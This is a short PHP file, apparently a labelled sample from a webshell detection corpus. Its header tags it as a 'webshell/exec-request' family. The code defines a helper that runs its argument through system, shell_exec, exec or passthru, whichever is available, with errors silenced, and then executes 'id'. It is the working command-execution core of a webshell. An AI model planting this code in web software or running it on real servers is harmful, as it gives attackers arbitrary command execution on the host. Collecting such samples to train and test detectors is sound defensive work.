<?php
// Family: webshell/exec-request
// Style: helper that tries every command runner in turn on its argument, the request read elsewhere
// Trait: the same variable goes to system, shell_exec, exec and passthru: "run it any way that works"
function run_any($c)
{
	$o = '';
	if (is_callable('system')) {
		ob_start();
		@system($c);
		$o = ob_get_clean();
	} elseif (is_callable('shell_exec')) {
		$o = @shell_exec($c);
	} elseif (is_callable('exec')) {
		@exec($c, $r);
		$o = join("\n", $r);
	} elseif (is_callable('passthru')) {
		ob_start();
		@passthru($c);
		$o = ob_get_clean();
	}
	return $o;
}
echo run_any('id');
